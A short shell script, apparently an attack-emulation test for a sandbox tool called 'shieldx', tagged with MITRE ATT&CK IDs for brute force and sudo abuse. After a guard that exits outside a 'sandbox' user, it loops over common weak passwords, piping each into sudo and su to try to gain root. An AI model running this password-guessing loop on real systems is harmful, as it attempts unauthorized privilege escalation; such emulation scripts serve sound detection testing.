#!/bin/sh
# technique: T1110 T1548.003
[ "$USER" = sandbox ] || { echo "only for the inside of a sandbox: shieldx run"; exit 99; }

for p in password 123456 root toor admin letmein; do echo "$p" | sudo -k -S whoami; echo "$p" | su -c id root; done
